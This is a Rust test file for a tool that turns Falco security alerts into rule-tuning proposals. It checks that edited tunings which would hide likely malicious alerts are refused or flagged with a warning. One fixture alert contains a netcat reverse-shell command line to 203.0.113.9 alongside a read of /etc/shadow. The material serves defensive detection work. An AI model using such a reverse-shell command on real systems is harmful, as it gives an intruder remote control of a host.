//! What a person puts in the place of a proposed tuning: another candidate, or a text of their own. What it
//! hides of attacks is counted over the alerts themselves, and refused unless they insist.

use analysis::lab::Base;
use analysis::mitigation::{Change, File, Plan, Refused};
use analysis::{Options, Outcome, Session};

const HOOK: &str = "user_read_sensitive_file_conditions";
const ID: &str = "falco-tuning-user_read_sensitive_file_conditions";
const AGENT: &str = r#"{"rule":"Read sensitive file untrusted","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/usr/bin/agent","proc.cmdline":"agent --daily","container.image.repository":"registry.example/agent","k8s.ns.name":"platform","fd.name":"/etc/shadow","evt.type":"openat"}}"#;
const ATTACK: &str = r#"{"rule":"Read sensitive file untrusted","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444","container.id":"host","fd.name":"/etc/shadow","evt.type":"openat"}}"#;

fn outcome(alerts: &[&str], keep_alerts: bool) -> Outcome {
    let mut session = Session::new(Options { keep_alerts, ..Options::default() });
    session.open("input");
    session.feed(alerts.join("\n").as_bytes());
    session.finish()
}

fn choose(outcome: &Outcome, content: Option<&str>, insist: bool) -> Result<Plan, Refused> {
    let change = Change { id: ID.to_owned(), content: content.map(ToOwned::to_owned), insist };
    Plan::changed(outcome, &Base::new(&outcome.rule_files), &[change])
}

fn hook(condition: &str) -> String {
    format!("- macro: {HOOK}\n  condition: or ({condition})\n  override:\n    condition: append\n")
}

fn file<'a>(plan: &'a Plan, folder: &str) -> Option<&'a File> {
    plan.files().into_iter().find(|file| file.name.starts_with(folder))
}

#[test]
fn the_export_holds_the_candidate_that_was_chosen_with_its_proof() {
    let outcome = outcome(&[AGENT], true);
    let proposed = &outcome.report.plan;
    let [tuning] = proposed.tunings.as_slice() else { panic!("{proposed:?}") };
    let [narrow, .., broad] = tuning.candidates.as_slice() else { panic!("{tuning:?}") };
    assert_eq!(tuning.id, ID);

    let plan = choose(&outcome, Some(&broad.content), false).unwrap();
    let mitigation = plan.mitigations.iter().find(|one| one.id == ID).unwrap();
    assert_eq!(mitigation.proof.as_ref(), Some(&broad.proof));
    assert_eq!(file(&plan, "falco/").unwrap().content, broad.content);
    for folder in ["falco-before-0.37/", "helm/"] {
        let other = &file(&plan, folder).unwrap().content;
        assert!(other.contains("# Falco tuning by Falco Report. Grade: broad."), "{other}");
    }
    let old = &file(&plan, "falco-before-0.37/").unwrap().content;
    assert_eq!(*old, broad.content.replace("  override:\n    condition: append\n", "  append: true\n"));
    assert_ne!(*old, broad.content);

    assert_eq!(choose(&outcome, Some(&narrow.content), false).unwrap(), *proposed);
    let without = choose(&outcome, None, false).unwrap();
    assert!(without.files().iter().all(|file| !file.content.contains(HOOK)));
}

#[test]
fn an_edited_text_has_no_proof_and_the_forms_that_it_can_have() {
    let outcome = outcome(&[AGENT], true);
    let forms = |text: &str| -> Vec<(String, String)> {
        let plan = choose(&outcome, Some(text), false).unwrap();
        assert!(plan.mitigations.iter().any(|one| one.id == ID && one.proof.is_none()));
        let forms = plan.forms(ID);
        assert!(forms.iter().all(|form| plan.files().contains(&form)), "the export holds {forms:?}");
        forms.into_iter().map(|file| (file.name, file.content)).collect()
    };
    let text = hook("proc.exepath = /opt/override:1/agent");
    let [current, old, helm] = forms(&text).try_into().unwrap();
    assert_eq!(current, (format!("falco/{HOOK}.yaml"), text.clone()));
    assert_eq!(old.0, format!("falco-before-0.37/{HOOK}.yaml"));
    assert!(old.1.ends_with("  append: true\n") && !old.1.contains("\n  override:"), "{}", old.1);
    assert!(helm.1.contains(&format!("    - macro: {HOOK}\n")), "{}", helm.1);
    for other in [
        format!("- macro: {HOOK}\n  condition: (proc.pid = 1)\n  override: {{condition: replace}}\n"),
        format!("{text}    output: append\n"),
        text.replace("override:", "'override' :"),
        format!("- macro: {HOOK}\n  condition: (proc.pid = 1)\n  override:\n    condition: replace\n"),
    ] {
        assert_eq!(forms(&other).len(), 2, "{other}");
    }
}

#[test]
fn a_text_that_hides_an_attack_is_refused_unless_somebody_insists_and_then_says_so() {
    let outcome = outcome(&[AGENT, ATTACK, ATTACK], true);
    let off = "- rule: Read sensitive file untrusted\n  enabled: false\n  override:\n    enabled: replace\n";
    for text in [hook("fd.name = /etc/shadow"), hook("proc.cmdline contains 203.0.113.9"), off.to_owned()] {
        let refused = choose(&outcome, Some(&text), false).unwrap_err();
        assert_eq!(refused.attacks, 2, "{text}");
        assert!(refused.to_string().ends_with("it hides 2 alerts that are judged likely malicious"));
        let plan = choose(&outcome, Some(&text), true).unwrap();
        let said = "# WARNING: hides 2 alerts that are judged likely malicious. This was\n";
        assert_eq!(file(&plan, "falco/").unwrap().content.lines().next(), said.lines().next());
        for form in plan.forms(ID) {
            assert!(form.content.contains(said.trim_end()), "{}", form.content);
        }
        let again = file(&plan, "falco/").unwrap().content.clone();
        let twice = choose(&outcome, Some(&again), true).unwrap();
        assert_eq!(file(&twice, "falco/").unwrap().content, again);
    }
}

/// Of the command line no portrait holds anything, so only the alerts themselves decide.
#[test]
fn what_no_attack_matches_is_not_refused_and_what_cannot_be_decided_is() {
    let text = hook("proc.cmdline = \"agent --daily\"");
    let plan = choose(&outcome(&[AGENT, ATTACK], true), Some(&text), false).unwrap();
    assert_eq!(file(&plan, "falco/").unwrap().content, text);
    let refused = choose(&outcome(&[AGENT, ATTACK], false), Some(&text), false).unwrap_err();
    assert_eq!(refused.attacks, 1);
    let broken = hook("proc.name = ");
    assert!(choose(&outcome(&[AGENT, ATTACK], true), Some(&broken), false).is_ok());
}
